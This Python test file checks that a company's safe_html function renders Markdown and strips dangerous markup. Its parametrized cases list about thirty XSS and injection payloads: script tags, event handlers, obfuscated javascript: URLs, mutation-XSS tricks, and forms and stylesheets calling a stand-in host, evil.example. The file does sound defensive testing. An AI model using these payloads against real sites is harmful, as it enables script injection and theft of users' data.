"""The company's texts as HTML: Markdown is rendered, and nothing that runs, loads or hides anything survives."""

import re
from html.parser import HTMLParser

import pytest

from deployments.http.pages.safe_html import safe_html

ALLOWED = {"a", "b", "blockquote", "br", "code", "em", "h2", "h3", "h4", "hr", "i", "li", "ol", "p", "strong", "ul"}

REL = 'rel="noopener noreferrer"'


class Parsed(HTMLParser):
    """The tags and attributes that a browser would see."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: dict[str, str | None] = {}
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes.update(attrs)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Hello **you**\n\n- one\n- two", "<p>Hello <strong>you</strong></p>\n<ul>\n<li>one</li>\n<li>two</li>\n</ul>"),
        ("<p>Plain <em>HTML</em></p>", "<p>Plain <em>HTML</em></p>"),
        ("5 < 6 & 7", "<p>5 &lt; 6 &amp; 7</p>"),
        ("[Help](https://example.com/a?b=c)", f'<p><a href="https://example.com/a?b=c" {REL}>Help</a></p>'),
        ("[Write](mailto:help@example.com)", f'<p><a href="mailto:help@example.com" {REL}>Write</a></p>'),
    ],
)
def test_markdown_and_html_are_rendered(text: str, expected: str) -> None:
    assert safe_html(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        "<p onclick='alert(1)' onmouseover=alert(1)>Hello</p>",
        "<img src=x onerror=alert(1)>",
        "<img src='https://evil.example/pixel.png'>",
        "![](https://evil.example/pixel.png)",
        "![](data:image/png;base64,AAAA)",
        "<picture><source srcset='https://evil.example/x.png'></picture>",
        "[click](javascript:alert(1))",
        "<a href='javascript:alert(1)'>click</a>",
        "<a href='JaVa\tScRiPt:alert(1)'>click</a>",
        "<a href='&#106;avascript:alert(1)'>click</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>click</a>",
        "<a href='vbscript:msgbox(1)'>click</a>",
        "<a href='//evil.example/'>click</a>",
        "<a href='http://example.com/'>click</a>",
        "<p style='background:url(https://evil.example/x)'>Hello</p>",
        "<style>@import 'https://evil.example/x.css'; .cancel { display: none }</style>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
        "<iframe src='https://evil.example/'></iframe>",
        "<object data='https://evil.example/'></object><embed src='https://evil.example/'>",
        "<form action='https://evil.example/'><input name=card><button>Go</button></form>",
        "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
        "<base href='https://evil.example/'>",
        "<p class=cancel id=cancel hidden aria-hidden=true>Hello</p>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
        "<!--<img src='--><img src=x onerror=alert(1)//'>",
        "<video src='https://evil.example/x.mp4' autoplay></video>",
    ],
)
def test_nothing_dangerous_survives(text: str) -> None:
    found = safe_html(f"Before\n\n{text}\n\nAfter")
    parsed = Parsed(found)
    assert parsed.tags <= ALLOWED
    assert parsed.attributes.keys() <= {"rel"}
    assert "Before" in found
    assert "After" in found


@pytest.mark.parametrize(
    "figure",
    [
        "<b>many</b>",
        "<script>alert(1)</script>",
        "[click](https://evil.example/)",
        "**bold** _and_ `code` & more",
        "{other}",
        "a\n\n# heading\n\n- list",
        "https://evil.example/",
        "&lt;b&gt;",
    ],
)
def test_a_figure_is_shown_as_it_is(figure: str) -> None:
    for text in ("You made {videos} videos.", "<p>You made {videos} videos.</p>"):
        found = safe_html(text, {"videos": figure, "other": "x"})
        assert Parsed(found).tags == {"p"}
        assert _text(found) == f"You made {figure} videos."


def test_a_figure_cant_leave_an_attribute() -> None:
    found = safe_html("<a href='https://example.com/{name}'>Go</a>", {"name": "x' onclick='alert(1)"})
    assert set(Parsed(found).attributes) <= {"href", "rel"}


def test_a_name_that_is_no_figure_stays() -> None:
    assert safe_html("Use {this}.", {"that": "x"}) == "<p>Use {this}.</p>"


def _text(found: str) -> str:
    class Text(HTMLParser):
        text = ""

        def handle_data(self, data: str) -> None:
            self.text += data

    parser = Text()
    parser.feed(re.sub(r"^<p>|</p>$", "", found))
    parser.close()
    return parser.text
